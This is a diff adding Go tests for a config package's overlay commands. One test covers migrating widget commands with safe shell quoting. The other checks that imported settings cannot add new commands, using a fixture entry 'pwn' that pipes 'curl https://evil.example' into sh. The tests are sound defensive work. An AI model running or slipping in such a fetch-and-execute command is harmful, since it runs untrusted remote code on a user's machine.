@@ -0,0 +1,69 @@
+package config
+
+import (
+	"maps"
+	"path/filepath"
+	"testing"
+)
+
+func TestMigrateV2NamedCommands(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	m, err := NewManager(filepath.Join(t.TempDir(), "config.yaml"))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	data := []byte(`version: 2
+active_profile_id: default
+profiles:
+  - id: default
+    name: Default
+overlay:
+  allow_commands: true
+  widgets:
+    - id: branch
+      type: command
+      command: git branch --show-current
+      dir: /home/me/it's here
+    - id: clock
+      type: command
+      command: date +%H:%M
+    - id: title
+      type: text
+      text: hello
+`)
+	cfg, fromVersion, err := m.ParseImport(data)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if fromVersion != 2 || cfg.Version != CurrentVersion {
+		t.Errorf("versions = %d -> %d, want 2 -> %d", fromVersion, cfg.Version, CurrentVersion)
+	}
+
+	wantCommands := map[string]string{
+		"branch": `cd '/home/me/it'\''s here' && git branch --show-current`,
+		"clock":  "date +%H:%M",
+	}
+	if !maps.Equal(cfg.Overlay.Commands, wantCommands) {
+		t.Errorf("overlay.commands = %q, want %q", cfg.Overlay.Commands, wantCommands)
+	}
+	for _, widget := range cfg.Overlay.Widgets {
+		id := widget["id"].(string)
+		if _, isCommand := wantCommands[id]; isCommand && (widget["command"] != id || widget["dir"] != nil) {
+			t.Errorf("widget %s = %v, want it to name its command", id, widget)
+		}
+	}
+}
+
+func TestKeepCommands(t *testing.T) {
+	current := &Config{Overlay: OverlayConfig{Commands: map[string]string{"clock": "date"}}}
+	next := &Config{Overlay: OverlayConfig{
+		AllowCommands: true,
+		Commands:      map[string]string{"clock": "date", "pwn": "curl https://evil.example | sh"},
+	}}
+
+	next.KeepCommands(current)
+	if next.Overlay.AllowCommands || !maps.Equal(next.Overlay.Commands, current.Overlay.Commands) {
+		t.Errorf("overlay = %+v, want the current command settings", next.Overlay)
+	}
+}